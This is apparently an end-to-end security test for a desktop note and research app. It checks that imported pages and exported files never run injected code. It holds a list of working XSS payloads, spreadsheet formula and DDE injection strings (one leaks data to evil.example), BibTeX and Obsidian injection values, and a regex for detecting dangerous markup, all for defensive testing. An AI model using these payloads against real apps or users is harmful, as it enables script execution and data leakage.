// End to end: a corpus of hostile articles and names, written here, is imported (every
// suggestion accepted) and every view of the real app is opened. Each payload, if it
// ever ran, would set a marker on the window and ask Dossier (through the IPC bridge) to
// create an actor called "PWNED"; the test fails if either happens. Then the library's
// exports are read as their tools read them, and must hold nothing active either.
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { appBinary, repoRoot, scratchHome, Session } from "./webdriver.mjs";

const scratch = scratchHome();
const store = join(scratch.home, "hostile.dossier");
let session;

// What a payload does when it runs: a marker, and a call into Dossier.
const RUN =
  "window.__pwned=(window.__pwned||0)+1;try{window.__TAURI_INTERNALS__.invoke('create_actor',{actor:{name:'PWNED',kind:'other',description:'',aliases:[]}})}catch(e){}";
const ENCODED = RUN.replace(/"/g, "&quot;");

/** The hostile bodies: the vectors desktop note apps have fallen to, and some more. */
const payloads = [
  `<img src=x onerror="${ENCODED}">`,
  `<iframe srcdoc="<script>${ENCODED}</script>"></iframe>`,
  `<svg onload="${ENCODED}"><circle r="3"/></svg>`,
  `<details open ontoggle="${ENCODED}"><summary>x</summary></details>`,
  `<a href="javascript:${ENCODED}">click me</a>`,
  `<a href="jav&#x09;ascript:${ENCODED}">entity-split scheme</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${ENCODED}">numeric entities</a>`,
  `<svg></p><style><a title="</style><img src onerror=&quot;${ENCODED}&quot;>"></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror="${ENCODED}">`,
  `<script>${RUN}</script>`,
  `<body onload="${ENCODED}">body</body>`,
  `<object data="javascript:${ENCODED}"></object>`,
  `<embed src="javascript:${ENCODED}">`,
  `<form action="javascript:${ENCODED}"><button>go</button></form>`,
  `<input autofocus onfocus="${ENCODED}">`,
  `<video><source onerror="${ENCODED}"></video>`,
  `<audio src=x onerror="${ENCODED}"></audio>`,
  `<marquee onstart="${ENCODED}">scroll</marquee>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${ENCODED}">`,
  `<base href="javascript:/"><a href="x">relative</a>`,
  `<link rel="stylesheet" href="https://tracker.example/s.css"><img src="https://tracker.example/pixel.gif">`,
  `<style>@import url(https://tracker.example/x.css); body{background:url(javascript:${ENCODED})}</style>`,
  `<div style="background-image:url(javascript:${ENCODED})">styled</div>`,
  `<a href="file:///etc/passwd">local file</a> <a href="smb://evil.example/share">share</a>`,
  `<noscript><p title="</noscript><img src=x onerror=&quot;${ENCODED}&quot;>"></noscript>`,
  `<template><img src=x onerror="${ENCODED}"></template>`,
  `<textarea></textarea><img src=x onerror="${ENCODED}">`,
  `<svg><animate onbegin="${ENCODED}" attributeName="x" dur="1s"/></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN.replace(/'/g, "\\'")}'/>">`,
  `<xmp></xmp><img src=x onerror="${ENCODED}">`,
];

/** Names and titles that must stay text wherever they are shown. */
const names = [
  `<img src=x onerror="${ENCODED}">`,
  `</style><script>${RUN}</script>`,
  `</script><svg onload="${ENCODED}">`,
  `{{constructor.constructor('${RUN.replace(/'/g, "\\'")}')()}}`,
  "__proto__",
];

/** What pages carry to attack the tools an analyst exports to: spreadsheet formulas,
 * BibTeX brace games, Obsidian embeds and Dataview queries, `javascript:` and broken-line
 * addresses. Each page gets one of each in its title, byline, site name and address. */
const metadata = {
  titles: ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "x}, author = {Mallory", "![[../../../etc/passwd]] [[../.obsidian/app]]", "`$= dv.el('b', app.vault.adapter.basePath)`"],
  bylines: ["+cmd|' /C calc'!A0", "Mallory} @misc{evil, title={x", "<b onmouseover=alert(1)>Eve</b>"],
  sites: ["-2+3+cmd|' /C calc'!A0", "[evil](javascript:alert(1))", "@SUM(1)"],
  urls: ["javascript:alert(document.domain)", "https://news.example/a&#13;&#10;# Injected&#13;&#10;&lt;script>x&lt;/script>", "https://news.example/}&#10;@misc{evil,"],
};
const attribute = (text) => text.replace(/&(?!#)/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;");
const pick = (list, i) => list[i % list.length];

before(async () => {
  const folder = join(scratch.home, "hostile");
  mkdirSync(folder);
  payloads.forEach((payload, i) => {
    writeFileSync(
      join(folder, `${String(i).padStart(2, "0")}.html`),
      `<!doctype html><html><head><title>Hostile ${i}: ${payload.slice(0, 40).replace(/</g, "(")} ${attribute(pick(metadata.titles, i))}</title>` +
        `<meta name="author" content="${attribute(pick(metadata.bylines, i))}"><meta property="og:site_name" content="${attribute(pick(metadata.sites, i))}">` +
        `<link rel="canonical" href="${pick(metadata.urls, i)}"></head>` +
        `<body><article><h1>Hostile page ${i}</h1><p>Iran signed a cooperation agreement with Venezuela in 2022, officials said.</p>` +
        `${payload}<p>Hezbollah denied it. “${payload}” said Joseph Humire in March.</p>` +
        `<p>“The ![[../../secret]] file and \`$= dv.current()\` were in ${pick(metadata.titles, i + 1).replace(/</g, "&lt;")},” said Joseph Humire.</p></article></body></html>`,
    );
  });
  const run = (...args) => execFileSync(appBinary(), ["--db", store, ...args], { env: { ...process.env, ...scratch.env } });
  run("import", folder);
  for (const name of names) run("actors", "add", name, "--kind", "organization");
  // Every suggestion of every page accepted: hostile quotations become citations.
  for (let id = 1; id <= payloads.length; id++) run("suggestions", "accept", "--source", String(id), "--all");
  session = await Session.start({ ...scratch.env, DOSSIER_DB: store });
});

after(async () => {
  await session?.close();
});

const pwned = () => session.execute("return window.__pwned || 0");

test(`${payloads.length} hostile pages and ${names.length} hostile names run nothing in any view`, async () => {
  await session.waitFor("return document.querySelectorAll('[data-source-id]').length >= 10", [], {
    what: "the hostile pages in the Library",
  });
  const views = ["nav-library", "nav-review", "nav-actors", "nav-claims", "nav-graph", "nav-timeline", "nav-notes", "nav-hypotheses", "nav-settings"];
  for (const view of views) {
    await session.execute(`document.querySelector('[data-testid=${view}]').click()`);
    await session.execute("return new Promise(r => setTimeout(r, 250))");
    assert.equal(await pwned(), 0, `${view} ran a payload`);
  }
  // Every page in the reader, with its highlights and its metadata panel.
  const sources = JSON.parse(execFileSync(appBinary(), ["--db", store, "list", "sources", "--json"], { env: { ...process.env, ...scratch.env } }));
  assert.equal(sources.total, payloads.length);
  await session.execute("document.querySelector('[data-testid=nav-library]').click()");
  for (let i = 0; i < sources.items.length; i++) {
    // The list is virtualised: scroll the row into the window first.
    await session.waitFor(
      `const list = document.querySelector('[role=list][aria-label=Sources]'); if (!list) return false;
       list.scrollTop = ${i} * 64;
       const row = document.querySelector('[data-source-id="${sources.items[i].id}"]'); if (row) row.click(); return !!row;`,
      [],
      { what: `source ${sources.items[i].id} in the Library` },
    );
    await session.waitFor("return !!document.querySelector('[data-testid=reader-text]')");
    assert.equal(await pwned(), 0, `the reader of source ${sources.items[i].id} ran a payload`);
    await session.execute("document.querySelector('[data-testid=nav-library]').click()");
  }
  // Every hostile actor's page, and the palette's snippets.
  const actors = JSON.parse(execFileSync(appBinary(), ["--db", store, "list", "actors", "--json", "--limit", "500"], { env: { ...process.env, ...scratch.env } }));
  await session.execute("document.querySelector('[data-testid=nav-actors]').click()");
  for (const name of names) {
    const actor = actors.items.find((a) => a.name === name);
    assert.ok(actor, `actor ${name} exists`);
    await session.waitFor(
      `const row = document.querySelector('[data-actor-id="${actor.id}"]'); if (row) row.click(); return !!row;`,
      [],
      { what: `the actor ${name}` },
    );
    const shown = await session.waitFor("const t = document.querySelector('#actor-title'); return t && t.textContent !== '…' && t.textContent;");
    assert.equal(shown, name, "the name is shown as text, exactly");
    assert.equal(await pwned(), 0, `the page of ${name} ran a payload`);
    await session.execute("document.querySelector('[data-testid=nav-actors]').click()");
  }
  await session.press("k", ["Control"]);
  await session.type("[data-testid=palette-input]", "onerror");
  await session.waitFor("return document.querySelectorAll('[data-testid=palette-hit]').length > 0", [], { what: "hits for onerror" });
  await session.screenshot("hostile-palette");
  await session.press("Escape");
  assert.equal(await pwned(), 0, "the palette ran a payload");
  // Nothing reached Dossier's commands either.
  const after = JSON.parse(execFileSync(appBinary(), ["--db", store, "list", "actors", "--json", "--limit", "500"], { env: { ...process.env, ...scratch.env } }));
  assert.ok(!after.items.some((a) => a.name === "PWNED"), "a payload called a Dossier command");
  // The stored renditions keep no element or attribute that runs code or fetches.
  const renditions = execFileSync("/usr/bin/python3", [
    "-c",
    "import sqlite3,sys,json; c=sqlite3.connect(sys.argv[1]); print(json.dumps([r[0] or '' for r in c.execute('select html from sources')]))",
    store,
  ]).toString();
  const html = JSON.parse(renditions);
  assert.equal(html.length, payloads.length);
  const dangerous = /<(script|iframe|object|embed|form|input|style|link|meta|base|svg|math|template|img|video|audio)\b|<[^>]*\son\w+\s*=|(href|src|action|data)\s*=\s*["']?\s*(javascript|data|file|smb):|https?:\/\/tracker\.example/i;
  for (const [i, page] of html.entries()) {
    assert.ok(!dangerous.test(page), `stored rendition ${i} keeps something dangerous: ${page.match(dangerous)?.[0]}`);
  }

  // The exports, read as their tools read them (tests/consumers/check_inert.py: the vault
  // as Obsidian with Dataview would, the briefing as a browser, CSV as a spreadsheet,
  // BibTeX as pandoc and BibTeX), hold nothing active.
  const exports = join(scratch.home, "exports");
  for (const format of ["vault", "briefing", "csv", "bibtex", "csl"]) {
    execFileSync(appBinary(), ["--db", store, "export", "--format", format, "--out", join(exports, format)], {
      env: { ...process.env, ...scratch.env },
    });
  }
  const python = process.env.DOSSIER_FTM_PYTHON ?? join(process.env.HOME ?? "", ".cache/dossier/ftm-venv/bin/python");
  const checked = spawnSync(python, [join(repoRoot, "tests/consumers/check_inert.py"), exports], { encoding: "utf8" });
  assert.equal(checked.status, 0, `${checked.stdout}${checked.stderr}`);
  assert.match(checked.stdout, /vault pages, 1 briefing\.md, 1 briefing\.html, \d+ csv cells, 30 bibtex entries/);
  // The briefing parsed by this very webview (a DOMParser document runs nothing): no
  // element or attribute that runs or fetches.
  const briefing = readFileSync(join(exports, "briefing/briefing.html"), "utf8");
  const active = await session.execute(
    `const doc = new DOMParser().parseFromString(arguments[0], "text/html");
     const found = [];
     for (const el of doc.querySelectorAll("*")) {
       if (/^(script|iframe|object|embed|img|svg|math|form|input|link|base|video|audio|template)$/i.test(el.localName)) found.push(el.localName);
       for (const a of el.attributes) {
         if (/^on/i.test(a.name)) found.push(el.localName + " " + a.name);
         if (/^(href|src|action|data)$/i.test(a.name) && !/^(https?:|#)/i.test(a.value.trim())) found.push(el.localName + " " + a.name + "=" + a.value);
       }
     }
     return found;`,
    [briefing],
  );
  assert.deepEqual(active, [], "the briefing holds something active");

  // Control: the two detectors see a payload that does run (here run on purpose, through
  // WebDriver), so their silence above means something.
  await session.execute(RUN);
  assert.equal(await pwned(), 1);
  let created = false;
  for (let tries = 0; tries < 20 && !created; tries++) {
    const now = JSON.parse(execFileSync(appBinary(), ["--db", store, "list", "actors", "--json", "--limit", "500"], { env: { ...process.env, ...scratch.env } }));
    created = now.items.some((a) => a.name === "PWNED");
    if (!created) await new Promise((r) => setTimeout(r, 150));
  }
  assert.ok(created, "the control payload's command call reached the store");
});
